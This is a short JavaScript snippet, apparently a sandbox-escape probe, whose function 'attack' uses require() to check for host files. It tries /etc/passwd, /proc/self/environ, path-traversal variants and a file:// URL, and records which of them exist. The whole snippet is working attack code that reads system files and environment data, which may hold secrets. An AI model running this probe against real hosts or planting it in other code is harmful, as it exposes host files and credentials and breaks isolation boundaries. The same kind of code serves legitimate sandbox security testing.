// Reads files of the host through `require`.

function attack() {
  const seen = [];
  for (const path of ["/etc/passwd", "../../../../etc/hostname", "/proc/self/environ", "/opt/function/code/../../../etc/passwd", "./index.js/../../../etc/passwd", "file:///etc/passwd"]) {
    for (const ending of ["", ".js", ".json"]) {
      try {
        require(path + ending);
      } catch (error) {
        if (error.code === "MODULE_NOT_FOUND") continue;
      }
      seen.push(path + ending);
    }
  }
  return seen;
}
